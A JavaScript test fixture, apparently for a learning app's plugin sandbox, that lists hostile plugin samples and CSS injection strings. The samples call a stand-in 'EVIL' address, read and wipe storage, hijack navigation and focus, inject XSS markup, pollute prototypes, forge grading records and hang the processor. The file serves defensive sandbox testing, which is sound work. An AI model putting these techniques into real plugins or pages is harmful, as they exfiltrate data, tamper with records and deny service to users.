// Plugins that mean harm, each as the `element.js` of a block that is built like the dial of `foreign/`. `module` stands in
// the module; `code` runs in `connect`, with `host`, and with `EVIL` (an address that counts who calls), `STUN` (its UDP
// port), `ITEM` (the block's own) and `PORT` (the frame's end of the channel).
//
// They stand together on a few pages, by `at`: those that stay where they are, those that end, those that are loud, and one
// that takes the processor of all frames with it. `then` is part of the sentence that says what became of a block that did
// not stay. `knocks`: its page may see a connection being opened. `steals`: somebody must be typing while it is there.

/** @type {Record<string, {code: string, at?: "quiet" | "ends" | "loud" | "stuck", then?: string, module?: string, knocks?: boolean, steals?: boolean}>} */
export const HOSTILE = {
  "reads the page": {
    code: `for (const get of [() => parent.document.body.remove(), () => top.document.title, () => parent.WEND, () => top.localStorage, () => opener.document,
        () => frameElement.ownerDocument, () => top[0].document, () => parent.frames[0] ?? undefined, () => (parent.length ? "frames" : undefined)])
      try { if (get() !== undefined) leak("page " + get); } catch {}`,
  },
  "reads storage": {
    code: `for (const get of [() => localStorage.clear(), () => sessionStorage.length, () => indexedDB.deleteDatabase("wend:foreign"), () => document.cookie, () => caches.keys()])
      try { get(); leak("storage " + get); } catch {}
      navigator.locks?.query().then(() => leak("locks"), () => {});
      navigator.storage?.getDirectory?.().then(() => leak("files"), () => {});
      const channel = new BroadcastChannel("wend:foreign"); channel.onmessage = () => leak("channel"); channel.postMessage("changed");`,
  },
  "calls home": {
    code: `fetch(EVIL + "fetch").catch(() => {}); navigator.sendBeacon?.(EVIL + "beacon"); new Image().src = EVIL + "img";
      for (const make of [() => new WebSocket(EVIL.replace("http", "ws")), () => new EventSource(EVIL + "events"), () => { const x = new XMLHttpRequest(); x.open("GET", EVIL + "xhr"); x.send(); },
        () => new Worker(EVIL + "worker.js"), () => new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "')"]))), () => new SharedWorker(EVIL + "shared.js"),
        () => new Audio(EVIL + "audio.mp3").play().catch(() => {}), () => new FontFace("x", "url(" + EVIL + "font.woff2)").load().catch(() => {}),
        () => new RTCPeerConnection(), () => new WebTransport("https://127.0.0.1:1"), () => eval("leak('eval')"), () => new Function("leak('function')")(),
        () => setTimeout("leak('timer')"), () => { const s = document.createElement("script"); s.src = EVIL + "script.js"; document.head.append(s); },
        () => { const s = document.createElement("script"); s.textContent = "leak('script')"; document.head.append(s); },
        () => { const v = document.createElement("video"); v.poster = EVIL + "poster"; v.src = EVIL + "video"; el.append(v); }])
      try { make(); } catch {}
      const sheet = new CSSStyleSheet(); sheet.replaceSync("body{background:url(" + EVIL + "css)} @font-face{font-family:x;src:url(" + EVIL + "face)} p{font-family:x}");
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];`,
  },
  "knocks on doors": {
    code: `const peer = (w) => { const c = new w.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + STUN }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); };
      const markup = '<link rel="preconnect" href="' + EVIL + '"><link rel="dns-prefetch" href="' + EVIL + '"><link rel="prefetch" href="' + EVIL + 'pre">';
      const link = (make) => { const l = make(); l.rel = "preconnect"; l.href = EVIL; document.head.append(l); };
      for (const go of [() => peer(globalThis), () => link(() => document.createElement("link")), () => link(() => document.createElementNS("http://www.w3.org/1999/xhtml", "x:link")),
        () => link(() => new Document().createElement("link")), () => link(() => { customElements.define("x-l", class extends HTMLLinkElement {}, { extends: "link" }); return new (customElements.get("x-l"))(); }),
        () => { document.body.innerHTML += markup; }, () => el.insertAdjacentHTML("beforeend", markup), () => document.write(markup), () => el.setHTMLUnsafe(markup), () => el.setHTML(markup, { sanitizer: {} }),
        () => document.head.append(...new DOMParser().parseFromString(markup, "text/html").head.children), () => document.head.append(document.createRange().createContextualFragment(markup)),
        () => document.head.append(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;link xmlns=\\'http://www.w3.org/1999/xhtml\\' rel=\\'preconnect\\' href=\\'' + EVIL + '\\'/>">]><a>&e;</a>', "text/xml").documentElement.firstChild),
        () => document.head.append(Document.parseHTMLUnsafe(markup).head.firstChild), () => { el.innerHTML += '<iframe srcdoc="' + markup.replaceAll("<", "&lt;").replaceAll('"', "&quot;") + '"></iframe>'; },
        () => { const f = document.createElement("iframe"); f.srcdoc = markup; el.append(f); }, () => { const f = document.createElement("iframe"); el.append(f); peer(f.contentWindow); },
        () => { const a = document.createElement("a"); a.href = EVIL + "a"; a.ping = EVIL + "ping"; el.append(a); a.click(); },
        () => { const o = document.createElement("object"); o.data = EVIL + "object"; el.append(o); }, () => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + EVIL + "refresh"; }])
      try { go(); } catch {}`,
  },
  "submits a form": {
    code: `const form = document.createElement("form"); form.action = EVIL + "form"; form.method = "post"; form.append(Object.assign(document.createElement("input"), { name: "a", value: "b" }));
      el.append(form); form.submit(); form.target = "_top"; form.submit(); form.target = "_blank"; form.submit(); form.requestSubmit();`,
  },
  "moves the page": {
    code: `for (const go of [() => { top.location = EVIL + "top"; }, () => { parent.location.href = EVIL + "parent"; }, () => { top.location.hash = "#x"; }, () => top.location.replace(EVIL), () => open(EVIL + "open"), () => open(EVIL, "_top"),
        () => host.goTo(EVIL + "go"), () => host.goTo("javascript:document.body.remove()"), () => host.goTo("two.html"), () => history.back(), () => top.history.back(), () => top.close(), () => parent.stop?.()])
      try { go(); } catch {}
      for (const show of [() => alert(1), () => confirm(1), () => prompt(1), () => print(), () => document.documentElement.requestFullscreen().catch(() => {}), () => el.requestPointerLock()]) try { show(); } catch {}`,
  },
  "goes elsewhere itself": { code: `setTimeout(() => { location.href = EVIL + "self"; }, 300);`, at: "ends", then: "tried to go elsewhere", knocks: true },
  "becomes a document of its own": { code: `setTimeout(() => { location.href = "about:blank"; }, 300);`, at: "ends", then: "tried to go elsewhere" },
  "never ends": { code: `for (;;) {}`, at: "ends", then: "stopped answering" },
  "ends up in a loop": { code: `setTimeout(() => { for (;;) {} }, 500);`, at: "ends", then: "stopped answering" },
  "loops while it loads": { module: `for (;;) {}`, code: "", at: "ends", then: "stopped answering" },
  "never answers": { module: `MessagePort.prototype.postMessage = () => {};`, code: "", at: "ends", then: "stopped answering" },
  "sends messages without end": { code: `for (let n = 0; n < 2e5; n += 1) host.announce("x" + n);`, at: "loud", then: "got in the way" },
  "shouts at the window": { code: `for (let n = 0; n < 5e4; n += 1) parent.postMessage({ WEND: n }, "*");`, at: "loud", then: "got in the way" },
  "forges evidence": {
    code: `const base = { objective: "one", correct: true, answer: "mine" };
      for (const item of ["one#sum", ITEM.replace(/#.*/, "#sum"), ITEM.replace(/#.*/, "#good"), "one#nothing", "__proto__", "constructor", "", undefined, null, 7, {}, ["one#seven"]]) host.record({ ...base, item });
      for (const kind of ["credit", "overrule", "setting", "retract", "claim", "__proto__"]) host.record({ ...base, item: ITEM, kind, by: "teacher", target: ["x", 1] });
      for (const wrong of [{ correct: "yes" }, { correct: 1 }, { mixup: {} }, { ms: -1 }, { hints: 1e9 }, { certainty: "3" }, { answer: "x".repeat(11000) }, { score: "5" }]) host.record({ ...base, item: ITEM, ...wrong });
      host.record({ item: ITEM, objective: "another", correct: false, answer: "kept", by: "teacher", w: "forged", n: 1, t: 1, lesson: "two", note: "x" });`,
  },
  "fills the record": {
    code: `let n = 0; const one = () => host.record({ item: ITEM, correct: true, answer: n++ }); while (n < 80) one();
      const timer = setInterval(async () => { const kept = one(); if (n === 210) { clearInterval(timer); await kept; el.dataset.full = ""; } }, 40);`,
  },
  "is a million pixels high": { code: `el.style.display = "block"; el.style.height = "1000000px"; host.announce("high"); PORT("[\\"height\\",1e308]"); PORT("[\\"height\\",-5]"); PORT("[\\"height\\",\\"99999px;position:fixed\\"]");` },
  "pollutes prototypes": {
    code: `Object.prototype.polluted = "frame"; Array.prototype.push = () => leak("push");
      for (const text of ['{"__proto__":{"polluted":1}}', '["__proto__"]', '["constructor","prototype"]', '["save",{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}]',
        '["record",1,{"__proto__":{"polluted":1},"item":"' + ITEM + '","correct":true,"answer":{"__proto__":{"polluted":1}}}]', '["toString"]', '["hear",1]', 'null', '5', '[[]]', '[', '']) PORT(text);`,
  },
  "sends what is no text": {
    code: `const loop = {}; loop.loop = loop; for (const odd of [new ArrayBuffer(2e7), loop, new Date(), new Error("x"), /a+/, new Map([[1, 2]]), undefined, "x".repeat(3e7), '["announce","' + "y".repeat(5000) + '"]', '["failed"']) PORT(odd);
      const { port1 } = new MessageChannel(); PORT("[]", [port1]);`,
  },
  "speaks markup": { code: `host.announce("<img src=x onerror=\\"document.title='taken'\\"><b id=taken>spoken</b>");` },
  "takes the keyboard": { code: `const input = el.querySelector("input"); setInterval(() => { parent.focus(); window.focus(); input.focus(); }, 30);`, then: "got in the way", steals: true },
  "backtracks": {
    // From the moment when the page is to be read in larger letters, and whenever it begins anew.
    code: `const stick = () => setTimeout(() => /^(a+)+$/.test("a".repeat(60) + "b"), 300);
      if (host.history(ITEM).length) stick();
      else new MutationObserver(() => { host.record({ kind: "state", item: ITEM, answer: 1 }); stick(); }).observe(document.documentElement, { attributes: true });`,
    at: "stuck", then: "stopped answering",
  },
  "throws": { code: `throw new Error("broken");`, at: "ends", then: "does not work" },
};

// Style sheets that would change the page around their block, each the `element.css` of a plugin of its own.
export const STYLES = [
  ":root { --paper: red; --ink: red }",
  "html, body { display: none }",
  "* { color: red !important }",
  "* { color: red; display: none }",
  "body *, :not(p), :root:has(*) { outline: 9px solid red; opacity: 0 }",
  "wend-question, .prompt, h1, main { display: none }",
  "p { position: fixed; inset: 0; z-index: 2147483647; background: red }",
  "p { position: absolute; inset: -9999px; z-index: 2147483647; background: red }",
  "p { margin: -999px; padding: 999px; background: red }",
  "p::before { content: ''; position: fixed; inset: 0; z-index: 2147483647; background: red }",
  "p { box-shadow: 0 0 0 9999px red; outline: 9999px solid red; filter: drop-shadow(0 0 99px red) }",
  "p { transform: scale(1000); z-index: 9; position: relative }",
  "p { counter-reset: step 99; counter-increment: list-item 99 }",
  "p { float: left; inline-size: 9999px; block-size: 9999px; background: red }",
  "} body { display: none } p {",
  "p { color: red } </style><style> body { display: none }",
  "p { content: '\n } body { display: none } p { content: '",
  "p { color: red /* } */ ; } /* } body { display: none }",
  "\\62 ody, \\* { display: none }",
  "p ~ *, p + *, p:has(~ *), :has(p) { display: none }",
  "& ~ *, & + *, :host, :scope { display: none }",
  ":is(p, body), :where(body) > *, :not(:not(body)) { display: none }",
  "p { body & { display: none } & ~ * { display: none } }",
  "@media all { body { display: none } }",
  "@supports (color: red) { :root { --paper: red } }",
  "@container (min-width: 0) { body, p ~ * { display: none } }",
  "@starting-style { body { opacity: 0 } }",
  "@layer base, plugins, theme; @layer theme { body { display: none } }",
  "@scope (body) { * { display: none } }",
  "@font-face { font-family: 'Atkinson Next'; src: local('Courier New') }",
  "@keyframes fade { to { opacity: 0 } } p { animation: fade 1s both }",
  "@property --paper { syntax: '<color>'; inherits: false; initial-value: red }",
  "@page { size: 1cm; margin: 0 }",
  "@counter-style decimal { system: cyclic; symbols: 'x' }",
  "@view-transition { navigation: auto } p { view-transition-name: root }",
  "p { contain: none !important; all: unset; overflow-clip-margin: 9999px }",
];
